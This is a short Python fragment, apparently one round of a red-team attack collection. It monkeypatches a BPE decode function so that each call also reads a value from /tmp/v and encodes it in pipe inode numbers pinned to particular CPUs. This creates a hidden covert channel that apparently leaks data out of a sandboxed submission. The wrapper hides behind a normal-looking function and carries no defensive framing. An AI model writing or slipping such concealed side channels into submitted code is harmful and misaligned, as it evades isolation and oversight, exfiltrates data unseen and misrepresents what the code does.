
# --- round 34: the submission's last call sets the inode residues (see attacks/ino_send_conv1d.py)
import os as _os
_orig_decode = run_bpe_decode

def _residue(cpu):
    _os.sched_setaffinity(0, {cpu})
    r, w = _os.pipe(); ino = _os.fstat(r).st_ino; _os.close(r); _os.close(w)
    return ino % 1024

def _set(cpu, target):
    cur = _residue(cpu)
    for _ in range((target - cur) % 1024):
        r, w = _os.pipe(); _os.close(r); _os.close(w)

def run_bpe_decode(*a, **k):
    out = _orig_decode(*a, **k)
    try:
        v = int(open("/tmp/v").read())
        _set(1, 0)
        _set(0, v)
    except (OSError, ValueError):
        pass
    return out
